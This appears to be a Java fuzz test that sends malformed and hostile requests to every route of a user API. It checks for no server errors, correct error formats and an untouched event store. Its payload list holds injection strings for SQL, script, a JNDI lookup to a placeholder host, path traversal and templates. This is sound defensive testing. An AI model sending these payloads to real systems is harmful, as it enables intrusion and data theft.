package dev.users.app.property;

import dev.users.app.support.ApiTest;
import dev.users.app.support.ErrorFormats;
import dev.users.app.support.Http;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.Example;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import net.jqwik.api.Tuple;
import net.jqwik.api.lifecycle.AfterContainer;
import net.jqwik.api.lifecycle.BeforeProperty;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.beans.factory.annotation.Qualifier;
import org.springframework.http.MediaType;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.test.context.TestContextManager;
import org.springframework.web.bind.annotation.RequestMethod;
import org.springframework.web.servlet.mvc.method.RequestMappingInfo;
import org.springframework.web.servlet.mvc.method.annotation.RequestMappingHandlerMapping;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;
import java.util.UUID;
import java.util.concurrent.atomic.AtomicLong;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Structurally malformed and hostile requests to every route the application serves (read from Spring MVC's own
 * mapping, so a new route is fuzzed without a change here): wrong JSON types for every field either surface knows,
 * missing and extra fields, huge strings and arrays, deep nesting, truncated JSON, invalid UTF-8, SQL, script and
 * lookup payloads, invalid phones, zones, languages and emails, and other content types. No answer is a 5xx, every
 * 4xx is in the surface's error format, and a rejected request leaves the event store as it was. Text inside valid
 * values (NUL, surrogates, control characters) is {@link HostileInputPropertyTest}'s.
 */
class MalformedRequestPropertyTest extends ApiTest {

    private static final AtomicLong REQUESTS = new AtomicLong();
    private static final AtomicLong REJECTED = new AtomicLong();
    private static final AtomicLong SERVER_ERRORS = new AtomicLong();
    private static final Pattern VARIABLE = Pattern.compile("\\{(\\w+)}");
    /** Every field name of both surfaces' bodies, and the wrappers Rails-style clients send. */
    private static final List<String> FIELDS = List.of("name", "email", "emails_attributes", "phones_attributes",
            "phone", "phones", "emails", "time_zone", "preferred_language", "notify_push", "notify_email",
            "notify_sms", "notify_voice", "meta", "roles", "team_ids", "member_team_ids", "user_attributes", "user",
            "account_user", "first_name", "last_name", "role_ids", "language", "timezone", "scope", "label",
            "expires_at", "default_region", "at", "description", "id", "_destroy", "primary", "blocked", "country",
            "confirmation_method", "certificate", "api_key_id");
    private static final List<String> PAYLOADS = List.of("'; DROP TABLE domainevententry; --", "\" OR 1=1 --",
            "<script>alert(1)</script>", "${jndi:ldap://evil.example/a}", "../../../../etc/passwd", "%s%s%s%n",
            "{{7*7}}", "+1 (555) 0000000000000000000", "00", "+999", "Mars/Olympus_Mons", "xx-YY-zz-123",
            "not an email", "a@b", "@example.com", "ann@@example.com", "9999-99-99T99:99:99Z", "-1", "1e400", "NaN");
    private static final List<String> CONTENT_TYPES = List.of("text/plain", "application/xml", "multipart/form-data",
            "multipart/form-data; boundary=x", "application/json; charset=ISO-8859-1", "application/json; charset=x",
            "application/x-www-form-urlencoded", "application/octet-stream", "*/*", "garbage", "application/");

    private static TestContextManager spring;

    @Autowired
    @Qualifier("requestMappingHandlerMapping")
    RequestMappingHandlerMapping mappings;

    @Autowired
    JdbcTemplate jdbc;

    private Http client;
    private String userId;
    private String accountUserId;

    /** One route: its method and its path with every variable filled in. */
    record Route(String method, String path) {
    }

    @BeforeProperty
    void connect() throws Exception {
        if (spring == null) {
            spring = new TestContextManager(MalformedRequestPropertyTest.class);
        }
        spring.prepareTestInstance(this);
        client = otherAccount();
        userId = created(client.post("/api/v4/users", Map.of("name", "Fuzz Target", "email", uniqueEmail("fuzz"))));
        accountUserId = created(client.post("/api/v4/account_users",
                Map.of("user_attributes", Map.of("name", "Fuzz Member", "email", uniqueEmail("fuzz-member")))));
    }

    @AfterContainer
    static void report() {
        System.out.printf("malformed-request property: %d requests sent, %d rejected with a 4xx, %d answered 5xx%n",
                REQUESTS.get(), REJECTED.get(), SERVER_ERRORS.get());
    }

    @Property(tries = 60)
    void noMalformedRequestIsA5xxOrChangesTheStore(@ForAll("bodies") byte[] body,
                                                   @ForAll("contentTypes") String contentType) {
        List<String> wrong = new ArrayList<>();
        for (Route route : routes()) {
            String problem = sendAndCheck(route, body, contentType);
            if (problem != null) {
                wrong.add(route.method() + " " + route.path() + ": " + problem);
            }
        }
        assertThat(wrong).as("answers to %s (%s)", preview(body), contentType).isEmpty();
    }

    /** Over the 1 MiB every body may have: a 413 on every route that takes a body, before anything is parsed. */
    @Example
    void aBodyOverTheLimitIsRefusedEverywhere() {
        byte[] huge = ("{\"name\": \"" + "x".repeat(1_100_000) + "\"}").getBytes(StandardCharsets.UTF_8);
        List<String> wrong = new ArrayList<>();
        for (Route route : routes()) {
            if (!route.method().equals("GET")) {
                String problem = sendAndCheck(route, huge, MediaType.APPLICATION_JSON_VALUE);
                if (problem != null) {
                    wrong.add(route.method() + " " + route.path() + ": " + problem);
                }
            }
        }
        assertThat(wrong).isEmpty();
    }

    @Provide
    Arbitrary<byte[]> bodies() {
        Arbitrary<String> field = Arbitraries.of(FIELDS);
        Arbitrary<String> wrongTypes = Combinators.combine(field.list().ofMinSize(1).ofMaxSize(6), jsonValue(3).list()
                .ofSize(6)).as((names, values) -> {
                    StringBuilder object = new StringBuilder("{");
                    for (int i = 0; i < names.size(); i++) {
                        object.append(i == 0 ? "" : ",").append(quoted(names.get(i))).append(':').append(values.get(i));
                    }
                    return object.append('}').toString();
                });
        Arbitrary<String> wrapped = Combinators.combine(Arbitraries.of("user", "account_user", "user_attributes"),
                wrongTypes).as((wrapper, inner) -> "{" + quoted(wrapper) + ":" + inner + "}");
        Arbitrary<String> deep = Combinators.combine(Arbitraries.integers().between(20, 20_000),
                Arbitraries.of("[", "{\"name\":", "{\"meta\":", "{\"user\":{\"meta\":")).as((n, open) -> open.repeat(n));
        Arbitrary<String> hugeArray = Combinators.combine(Arbitraries.of("roles", "team_ids", "emails_attributes",
                "phones_attributes", "role_ids"), Arbitraries.integers().between(1_000, 60_000), jsonValue(1))
                .as((name, n, value) -> "{" + quoted(name) + ":[" + (value + ",").repeat(n - 1) + value + "]}");
        Arbitrary<String> hugeString = Combinators.combine(field, Arbitraries.integers().between(10_000, 400_000))
                .as((name, n) -> "{" + quoted(name) + ":\"" + "é".repeat(n) + "\"}");
        Arbitrary<String> payload = Combinators.combine(field, Arbitraries.of(PAYLOADS))
                .as((name, value) -> "{\"name\":\"Fuzz\",\"email\":\"fuzz-" + UUID.randomUUID() + "@example.com\","
                        + quoted(name) + ":" + quoted(value) + "}");
        Arbitrary<String> truncated = Combinators.combine(wrongTypes, Arbitraries.integers().between(0, 200))
                .as((json, cut) -> json.substring(0, Math.min(cut, json.length())));
        Arbitrary<String> notJson = Arbitraries.of("", " ", "[]", "\"x\"", "1", "null", "true", "{\"name\":NaN}",
                "{\"name\":\"a\",\"name\":\"b\"}", "{/* comment */}", "{'name':'single'}", "{\"name\":\"a\"} trailing",
                "{\"name\":\"a\"", "}{", "\u0000", "<user><name>x</name></user>", "name=x&email=y", "{\"\":\"\"}");
        Arbitrary<String> text = Arbitraries.frequencyOf(Tuple.of(4, wrongTypes), Tuple.of(2, wrapped),
                Tuple.of(1, deep), Tuple.of(1, hugeArray), Tuple.of(1, hugeString), Tuple.of(3, payload),
                Tuple.of(2, truncated), Tuple.of(2, notJson));
        Arbitrary<byte[]> invalidUtf8 = Combinators.combine(field, Arbitraries.of(new byte[] {(byte) 0xC3, 0x28},
                new byte[] {(byte) 0xFF, (byte) 0xFE}, new byte[] {(byte) 0xC0, (byte) 0xAF}, new byte[] {(byte) 0x80},
                new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80}, new byte[] {(byte) 0xF8, (byte) 0x88, (byte) 0x80}))
                .as(MalformedRequestPropertyTest::withInvalidUtf8);
        return Arbitraries.frequencyOf(Tuple.of(9, text.map(s -> s.getBytes(StandardCharsets.UTF_8))),
                Tuple.of(1, invalidUtf8));
    }

    @Provide
    Arbitrary<String> contentTypes() {
        return Arbitraries.frequencyOf(Tuple.of(8, Arbitraries.just(MediaType.APPLICATION_JSON_VALUE)),
                Tuple.of(2, Arbitraries.of(CONTENT_TYPES)));
    }

    private static Arbitrary<String> jsonValue(int depth) {
        Arbitrary<String> scalar = Arbitraries.frequencyOf(
                Tuple.of(1, Arbitraries.of("null", "true", "false", "0", "-0", "1.5", "-1", "1e400", "-1e400",
                        "18446744073709551616", "9223372036854775808", "[]", "{}")),
                Tuple.of(2, Arbitraries.of(PAYLOADS).map(MalformedRequestPropertyTest::quoted)),
                Tuple.of(1, Arbitraries.strings().ascii().ofMaxLength(12).map(MalformedRequestPropertyTest::quoted)));
        if (depth == 0) {
            return scalar;
        }
        Arbitrary<String> array = jsonValue(depth - 1).list().ofMaxSize(3).map(items -> "[" + String.join(",", items)
                + "]");
        Arbitrary<String> object = Combinators.combine(Arbitraries.of(FIELDS).list().ofMaxSize(3),
                jsonValue(depth - 1).list().ofSize(3)).as((names, values) -> {
                    StringBuilder json = new StringBuilder("{");
                    for (int i = 0; i < names.size(); i++) {
                        json.append(i == 0 ? "" : ",").append(quoted(names.get(i))).append(':').append(values.get(i));
                    }
                    return json.append('}').toString();
                });
        return Arbitraries.frequencyOf(Tuple.of(4, scalar), Tuple.of(1, array), Tuple.of(1, object));
    }

    /**
     * Every route with a method that reads a body or parameters, its variables filled: the target user or account
     * user where the route names one (so the request reaches the code that reads the body), a random id for deletes
     * (which must not remove the targets). Left out: the event stream, which a valid request keeps open (its
     * parameters are EventStreamTest's), and Spring's /error.
     */
    private List<Route> routes() {
        Set<String> seen = new TreeSet<>();
        List<Route> routes = new ArrayList<>();
        for (Map.Entry<RequestMappingInfo, ?> entry : mappings.getHandlerMethods().entrySet()) {
            RequestMappingInfo info = entry.getKey();
            if (info.getProducesCondition().getProducibleMediaTypes().contains(MediaType.TEXT_EVENT_STREAM)) {
                continue;
            }
            Set<RequestMethod> methods = info.getMethodsCondition().getMethods();
            for (String pattern : info.getPatternValues()) {
                if (pattern.startsWith("/error")) {
                    continue;
                }
                for (RequestMethod method : methods.isEmpty() ? Set.of(RequestMethod.GET) : methods) {
                    String path = filled(pattern, method);
                    if (seen.add(method + " " + path)) {
                        routes.add(new Route(method.name(), path));
                    }
                }
            }
        }
        assertThat(routes).as("routes found in Spring MVC's mapping").hasSizeGreaterThan(30);
        return routes;
    }

    private String filled(String pattern, RequestMethod method) {
        Matcher variable = VARIABLE.matcher(pattern);
        StringBuilder path = new StringBuilder();
        while (variable.find()) {
            String value = switch (variable.group(1)) {
                case "answer" -> "accept";
                case "token" -> "not-a-token";
                default -> method == RequestMethod.DELETE ? UUID.randomUUID().toString()
                        : pattern.contains("account_users") ? accountUserId : userId;
            };
            variable.appendReplacement(path, Matcher.quoteReplacement(value));
        }
        variable.appendTail(path);
        return path.toString();
    }

    /** Null when the answer is acceptable, checking that a rejected request appended nothing. */
    private String sendAndCheck(Route route, byte[] body, String contentType) {
        long before = lastPosition();
        REQUESTS.incrementAndGet();
        Http.Response response = client.sendBytes(route.method(), route.path(),
                route.method().equals("GET") ? null : body, route.method().equals("GET") ? null : contentType);
        if (response.status() >= 500) {
            SERVER_ERRORS.incrementAndGet();
        }
        String problem = ErrorFormats.unacceptable(route.path(), response);
        if (problem == null && response.status() >= 400) {
            REJECTED.incrementAndGet();
            long after = lastPosition();
            if (after != before) {
                problem = "rejected with " + response.status() + " but the event store moved from " + before + " to "
                        + after;
            }
        }
        return problem;
    }

    private long lastPosition() {
        Long last = jdbc.queryForObject("select max(globalindex) from domainevententry", Long.class);
        return last == null ? 0 : last;
    }

    private static byte[] withInvalidUtf8(String field, byte[] invalid) {
        ByteArrayOutputStream body = new ByteArrayOutputStream();
        body.writeBytes(("{\"" + field + "\":\"ok").getBytes(StandardCharsets.UTF_8));
        body.writeBytes(invalid);
        body.writeBytes("\"}".getBytes(StandardCharsets.UTF_8));
        return body.toByteArray();
    }

    private static String quoted(String text) {
        return Wire.json(text, true);
    }

    private static String preview(byte[] body) {
        String text = new String(body, StandardCharsets.UTF_8);
        return text.length() <= 160 ? text : text.substring(0, 160) + "… (" + body.length + " bytes)";
    }

    private static String created(Http.Response response) {
        assertThat(response.status()).as(response.toString()).isIn(201, 202);
        return response.json().path("id").asString();
    }
}
